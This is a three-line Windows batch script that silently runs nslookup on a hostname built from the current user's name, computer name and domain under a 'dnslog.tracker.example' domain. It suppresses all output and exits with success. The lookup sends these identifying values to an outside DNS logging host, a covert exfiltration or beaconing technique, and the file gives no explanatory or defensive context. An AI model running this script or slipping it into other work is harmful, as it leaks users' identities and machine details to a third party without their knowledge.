@echo off
nslookup %USERNAME%.%COMPUTERNAME%.%USERDOMAIN%.dnslog.tracker.example >NUL 2>&1
exit /b 0
